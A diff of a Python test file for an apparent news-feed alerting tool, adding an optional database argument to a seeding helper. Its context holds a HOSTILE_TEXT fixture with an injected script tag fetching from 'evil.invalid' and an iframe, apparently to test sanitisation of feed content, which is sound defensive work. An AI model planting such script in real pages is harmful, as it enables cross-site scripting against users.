@@ -35,14 +35,14 @@ HOSTILE_TEXT = ('Im Gebiet Kursk <script>fetch("http://evil.invalid/x")</script>
                 '<iframe src="http://evil.invalid/"></iframe>')
 
 
-def seed(tmp_path: Path, feed_server, *, hostile: bool = False, extra: str = "") -> Path:
+def seed(tmp_path: Path, feed_server, *, hostile: bool = False, extra: str = "", database: str | None = None) -> Path:
     """A config and a database holding one alerted Kursk story (two rules: Kursk and North
     Korean troops), made by the real pipeline: a baseline poll, then the story appears."""
     for it in OLD:
         feed_server.add(it["link"], page(it["title"], [it["description"] * 3]), content_type="text/html; charset=utf-8")
     feed_server.add(KURSK["link"], KURSK_PAGE, content_type="text/html; charset=utf-8")
     feed_url = feed_server.add("/feed.xml", rss([{**it, "link": feed_server.url(it["link"])} for it in OLD]))
-    cfg = write_config(tmp_path, feeds=[feed_url], channels={"console": ["log://"]}, extra=extra)
+    cfg = write_config(tmp_path, feeds=[feed_url], channels={"console": ["log://"]}, extra=extra, database=database)
     first = run_cli("once", "--config", str(cfg))
     assert first.returncode == 0, first.stderr
     story = dict(KURSK)
@@ -165,7 +165,7 @@ def wait_until(pred, what: str, timeout: float = 30.0) -> None:  # type: ignore[
     raise AssertionError(f"timed out waiting for {what}")
 
 
-def store_only_match(db: Path) -> None:
+def store_only_match(db: Path | str) -> None:
     """A story of the database's first feed that the Kursk rule matched below its digest_at:
     stored only, no alert ("Wetterbericht mit Kursk am Rande"), written as the pipeline's
     record() writes one."""
